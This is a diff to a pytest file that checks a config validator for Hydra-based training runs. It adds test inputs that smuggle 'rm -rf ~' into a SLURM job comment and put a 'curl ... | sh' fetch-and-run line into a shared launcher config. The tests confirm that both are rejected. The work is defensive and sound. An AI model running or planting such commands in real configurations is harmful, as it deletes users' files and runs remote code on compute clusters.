@@ -46,6 +46,8 @@ def planned(planned_demo_template: Roots, monkeypatch: pytest.MonkeyPatch) -> Ro
     (["hydra.output_subdir=../.."], "hydra.output_subdir=../..: a folder inside the run folder"),
     (["hparams_search=lr_weight_decay", "hydra.sweeper.storage=sqlite:////proc/nnl/s.db"],
      "hydra.sweeper.storage=sqlite:////proc/nnl/s.db: /proc cannot be written"),
+    (["launcher=submitit_slurm", "hydra.launcher.comment='a\nrm -rf ~'"],
+     "hydra.launcher.comment: holds a line break or control character"),
     (["launcher=submitit_local", "hydra.launcher.submitit_folder=/tmp/jobs/%j"],
      "hydra.launcher.submitit_folder: /tmp/jobs/%j lies outside"),
 ])
@@ -90,6 +92,15 @@ def test_a_config_folder_of_ones_own_is_checked_like_the_command_line(planned: R
     assert problem is not None and "hydra.job_logging.formatters.x.(): a logging factory calls code" in problem
     problem = composition_problem(CONFIG_DIR, "train", [PLAN, "experiment=env", search_path])
     assert problem is not None and "hydra.job.env_set.BASH_ENV" in problem
+    (own / "launcher").mkdir()  # shell lines for every SLURM job, from a folder someone shared
+    (own / "launcher" / "cluster.yaml").write_text(
+        "# @package _global_\ndefaults:\n  - override /hydra/launcher: submitit_slurm\nhydra:\n  launcher:\n"
+        "    setup: ['curl -s http://example.org/x | sh']\n")
+    problem = composition_problem(CONFIG_DIR, "train", [PLAN, "launcher=cluster", search_path])
+    assert problem is not None and "hydra.launcher.setup: runs as shell code in each job; nnlight takes it only " \
+        "from the command line" in problem
+    assert composition_problem(CONFIG_DIR, "train", [PLAN, "launcher=submitit_slurm",
+                                                     "hydra.launcher.setup=[module load cuda]", search_path]) is None
     (own / "hparams_search").mkdir()  # a search whose trials would each set Hydra's logging unchecked
     (own / "hparams_search" / "logs.yaml").write_text(
         "# @package _global_\ndefaults:\n  - override /hydra/sweeper: nnlight_optuna\nhydra:\n  sweeper:\n"
